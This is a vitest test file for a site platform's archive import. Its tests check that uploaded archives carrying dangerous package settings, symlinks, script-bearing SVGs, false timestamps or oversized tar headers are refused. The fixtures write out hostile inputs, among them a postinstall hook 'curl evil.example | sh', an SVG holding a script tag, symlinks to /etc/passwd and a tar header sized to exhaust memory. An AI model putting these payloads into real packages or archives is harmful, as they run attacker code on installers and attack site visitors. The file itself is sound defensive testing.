/** What an archive brings is judged as a push of it would be, and looked at as a publish is. */
import { rm, truncate, writeFile } from 'node:fs/promises';
import { buffer } from 'node:stream/consumers';
import { pack } from 'tar-stream';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { ExportFault } from '#api/exports/document.ts';
import { exportSite } from '#operator/exports/archive-writer.ts';
import { importSite } from '#operator/exports/reader.ts';
import { siteAddress } from '#runtime/site-addresses.ts';
import { readTemplate } from '#templates/templates.ts';
import { createSite, limitsIn } from '#test/api/fixture.ts';
import { type AnyFile, git } from '#test/git/git.ts';
import * as sample from '#test/git/samples.ts';
import { withFiles } from './bending.ts';
import { type Entry, entriesOf, openEmpty, openExport, withDocument, writeArchive } from './fixture.ts';

vi.setConfig({ testTimeout: 60_000 });

let source: Awaited<ReturnType<typeof openExport>>;
let other: Awaited<ReturnType<typeof openEmpty>>;
let whole: Entry[];
beforeAll(async () => {
  [source, other] = await Promise.all([openExport(), openEmpty()]);
  whole = await entriesOf(source.exported);
}, 180_000);
afterAll(async () => {
  await other?.close();
  await source?.close();
});

async function taking(entries: readonly Entry[], into = other) {
  const archive = await writeArchive(source.archives.path(), entries);
  return await importSite(into, { archive, accountId: into.accountId });
}
async function expectRefused(entries: readonly Entry[], says: string | RegExp, what = '') {
  const refused = taking(entries);
  await expect(refused, what).rejects.toThrow(ExportFault);
  await expect(refused, what).rejects.toThrow(says);
  expect(await other.deps.em().execute('select 1 from site'), what).toEqual([]);
  expect(await other.deps.repositories?.siteIds(), what).toEqual([]);
}

const script: AnyFile = { path: 'src/assets/a.svg', bytes: sample.svg('<script>alert(1)</script>') };
const packages = JSON.stringify({ name: 'site', version: '0.9.0', scripts: { postinstall: 'curl evil.example | sh' } });

test('a platform file in an archive hides no other file, and is replaced', async () => {
  const { file_bytes: bytes } = limitsIn(other.config);
  const frozen = /managed by the platform/;
  const bent: [what: string, files: AnyFile[], says: RegExp][] = [
    ['other settings of npm', [{ path: '.npmrc', bytes: 'ignore-scripts=false' }], frozen],
    ['a script beside other packages', [{ path: 'package.json', bytes: packages }, script], /a\.svg/],
    ['a link under such a name', [{ path: 'src/.npmrc/x', mode: '120000', bytes: '/etc/passwd' }], frozen],
    [
      'a submodule under such a name',
      [{ path: 'src/package.json', mode: '160000', oid: 'c0ffee'.repeat(7).slice(0, 40) }],
      frozen,
    ],
    ['packages that are a link', [{ path: 'package.json', mode: '120000', bytes: '/etc/passwd' }], frozen],
    ['packages in a folder', [{ path: 'src/package.json', bytes: packages }], frozen],
    ['packages past the cap of a file', [{ path: 'package-lock.json', bytes: Buffer.alloc(bytes + 1, 32) }], frozen],
    ['what runs at an installation', [{ path: '.pnpmfile.cjs', bytes: 'x' }], frozen],
  ];
  for (const [what, files, says] of bent) await expectRefused(await withFiles(whole, 'source', files), says, what);
  await expectRefused(await withFiles(whole, 'content', [{ path: 'package.json', bytes: packages }]), frozen);
});

test('a site from another release is imported, and its clones get current packages', async () => {
  const release = await openEmpty();
  try {
    const lock = JSON.stringify({ name: 'site', lockfileVersion: 3 });
    const older = await withFiles(whole, 'source', [
      { path: 'package.json', bytes: packages },
      { path: 'package-lock.json', bytes: lock },
    ]);
    await taking(older, release);
    const dir = release.deps.repositories?.place(source.site.id, 'source').dir as string;
    const files = await readTemplate('blank', { title: 'x' });
    for (const name of ['package.json', 'package-lock.json'])
      expect(await git(dir, ['show', `main:${name}`])).toBe(String(files?.source.get(name)).trimEnd());
    expect(await git(dir, ['show', 'main~1:package-lock.json'])).toBe(lock);
    expect(await git(dir, ['diff', '--name-only', 'main~1', 'main'])).toBe('package-lock.json\npackage.json');
  } finally {
    await release.close();
  }
});

test('an import is scanned at once, with its new address', async () => {
  await expectRefused(
    withDocument(whole, ({ live }) => Object.assign(live as object, { live_at: '9999-01-01T00:00:00Z' })),
    'in the future',
  );
  await expectRefused(
    withDocument(whole, ({ rows }) => Object.assign(rows.form[0] as object, { created_at: '9999-01-01T00:00:00Z' })),
    'in the future',
  );
  const here = await openEmpty();
  try {
    const before = new Date();
    await taking(
      withDocument(whole, ({ live }) => Object.assign(live as object, { site_url: 'https://paypal.example' })),
      here,
    );
    const em = here.deps.em();
    const [row] = await em.execute('select id, site_url, finished_at from deployment');
    expect(row?.site_url).toBe(siteAddress(here.config, source.site.name));
    expect(new Date(row?.finished_at).getTime()).toBeGreaterThanOrEqual(before.getTime());
    const starts = await em.execute(`select workflow_id from outbox where message ->> 'type' = 'scanContent'`);
    expect(starts).toEqual([{ workflow_id: `scan:${row?.id}` }]);
  } finally {
    await here.close();
  }
});

test('a site without one of its repositories is neither exported nor imported', async () => {
  for (const repository of ['source', 'content'] as const) {
    const site = await createSite(source.owner);
    const dir = source.fixture.deps.repositories?.place(site.id, repository).dir as string;
    const exporting = () =>
      exportSite(source.fixture, { siteId: site.id, into: source.archives.path(), withVisitors: true });
    await git(dir, ['update-ref', '-d', 'refs/heads/main']);
    await expect(exporting()).rejects.toThrow(ExportFault);
    await rm(dir, { recursive: true });
    await expect(exporting()).rejects.toThrow(ExportFault);
    const less = withDocument(
      whole.filter(({ name }) => name !== `${repository}.pack`),
      ({ repositories }) => Reflect.deleteProperty(repositories, repository),
    );
    await expectRefused(less, repository);
    const headless = withDocument(whole, ({ repositories }) => Object.assign(repositories[repository], { refs: {} }));
    await expectRefused(headless, 'main');
  }
});

test('a header that claims a gigabyte is not read to its end', async () => {
  for (const type of ['x', 'g', 'L', 'K']) {
    const tar = pack();
    tar.entry({ name: 'long' }, '');
    tar.finalize();
    const header = (await buffer(tar)).subarray(0, 512);
    header.write(`${(1024 ** 3).toString(8).padStart(11, '0')} `, 124, 'latin1');
    header.write(type, 156, 'latin1');
    header.fill(' ', 148, 156);
    const sum = header.reduce((all, byte) => all + byte, 0);
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    const archive = source.archives.path();
    await writeFile(archive, header);
    await truncate(archive, 1024 ** 3 + 2048);
    const before = process.resourceUsage().maxRSS;
    await expect(importSite(other, { archive, accountId: other.accountId }), type).rejects.toThrow(
      'not a complete tar',
    );
    expect(process.resourceUsage().maxRSS - before, `KiB of ${type}`).toBeLessThan(100 * 1024);
  }
});
